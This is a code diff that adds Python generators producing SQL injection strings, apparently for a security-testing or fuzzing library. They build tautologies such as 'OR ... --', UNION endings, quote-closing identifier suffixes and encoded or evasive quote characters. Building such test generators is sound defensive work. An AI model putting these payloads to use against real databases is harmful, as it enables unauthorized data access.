@@ -228,3 +228,108 @@ def _filled(around: str, word: str, expression: str) -> str:
     if "LIMIT" in around:
         return around.format(word)
     return f"{word}{around.format(expression)}" if not around.startswith("*") else around.format(expression)
+
+
+#: Around what is compared in place of a column; `?` stands for the value, where the rest of the statement is a comment.
+_AROUND_OPERANDS = (("{}",), (" {}", "({})", '"{}"', "[{}]", "`{}`", "-{}", "{} ", "{}+0", "+{}"))
+_BESIDE_OPERANDS = (
+    "{} OR {column}",
+    "{column}=? OR {} --",
+    "{}) OR (1={column}",
+    "{column}>0 OR {} OR {column}",
+    '{column}" OR {} OR "{column}',
+    "{column}`=? OR {} --",
+    "{column}]=? OR {} --",
+    "{column}=?) OR ({} --",
+    "{column}\nOR {} OR {column}",
+    "{column} IS NOT NULL OR {column}",
+    "{column}/**/OR/**/{}/**/OR/**/{column}",
+    "{} OR {column} AND {column}",
+)
+
+
+def operands(
+    columns: Sequence[str], hidden: Sequence[str], conditions: Sequence[str], unions: Sequence[str] = ()
+) -> Iterator[str]:
+    """Texts for the place of a column that is compared with a value, as in `{} >= ?`.
+
+    `hidden` are columns and expressions that no right program compares, `conditions` are those that an attacker adds,
+    `unions` end the statement with another; `columns` may be compared.
+    """
+    plain = (around.format(one) for one, around in ranked([[one] for one in hidden], _AROUND_OPERANDS))
+    beside = (
+        around.format(condition, column=column)
+        for column, condition in ranked([columns[:1], columns[1:]], [[one] for one in conditions])
+        for around in _BESIDE_OPERANDS
+    )
+    ended = (f"{columns[0]}=?{bracket} {union} --" for union in unions for bracket in ("", ")"))
+    yield from in_turn(
+        plain,
+        beside,
+        (other for one in (hidden[0], f"{conditions[0]} OR {columns[0]}") for other in evasions.evading(one)),
+        ended,
+        (one for name in hidden[:1] for one in (name.upper(), f"{columns[0]},{name}", f"{columns[0]}\n{name}")),
+        (f"{column}.{hidden[0]}" for column in columns),
+    )
+
+
+def operators(
+    column: str, hidden: Sequence[str], conditions: Sequence[str], parting: str, kinds: Sequence[str]
+) -> Iterator[str]:
+    """Texts of a column, `parting`, and a kind of comparison, where more stands than one of each.
+
+    `kinds` are the words for comparisons; what a program writes for them may be the attacker's.
+    """
+    yield from in_turn(
+        (f"{column}{parting}{sign.format(one, column=column)}" for sign in _OPERATORS for one in conditions),
+        (f"{column}{parting}{name}{parting}{kind}" for name in hidden for kind in (*kinds, "=")),
+        (f"{name}{parting}{column}{parting}{kind}" for name in hidden for kind in kinds),
+        (f"{column}{parting}>0 AND {name}{sign}" for name in hidden for sign in (">=", "<", "=", "")),
+    )
+
+
+_OPERATORS = (
+    "= 0 OR {} OR 1=",
+    ">= 0 OR {} --",
+    "=? OR {} --",
+    "{column} OR {} OR {column}",
+    "=?) OR ({} --",
+    "IS NOT NULL OR {}=",
+)
+
+
+def identifiers(existing: Sequence[str], rests: Sequence[str]) -> Iterator[str]:
+    """Texts for a name in quotes, behind which the statement goes on as an attacker wants.
+
+    `existing` are names that there are; `rests` stand behind the name, with a blank in front where one is needed.
+    """
+    ends = list(ranked([[existing[0]], existing[1:]], [_NAME_ENDS[:3], _NAME_ENDS[3:]], [[one] for one in rests]))
+    yield from in_turn(
+        (f"{name}{end}{rest}{comment}" for comment in (" --", "") for name, end, rest in ends),
+        (
+            other
+            for rest in rests
+            for end in ('"', "")
+            for other in evasions.evading(f"{existing[0]}{end}{rest} --")
+        ),
+        (
+            f"{existing[0]}{end}{rest}{comment}"
+            for comment in ("/*", ";", " --\n", "\n--")
+            for rest in rests
+            for end in _NAME_ENDS[:2]
+        ),
+        # The quote that closes the name finds its other half.
+        (f"{name}{quote}{rest}{_HALF[quote]}" for rest in rests for name in existing[:2] for quote in _HALF),
+        (
+            f"{'x' * (length - short)}{quote}{rest} --"
+            for length in evasions.lengths()[-2:]
+            for short in (0, 1, 6)
+            for quote in ('"', '""')
+            for rest in rests[:1]
+        ),
+        existing,
+    )
+
+
+_NAME_ENDS = ('"', "", "]", "`", '""', "'", '\\"', '"""', "''", '"]', '")', "\\'", "&quot;", "%22", "\uff02", '\0"')
+_HALF = {'"': ' AS "', "`": " AS `", "]": " AS [", "'": " AS '"}
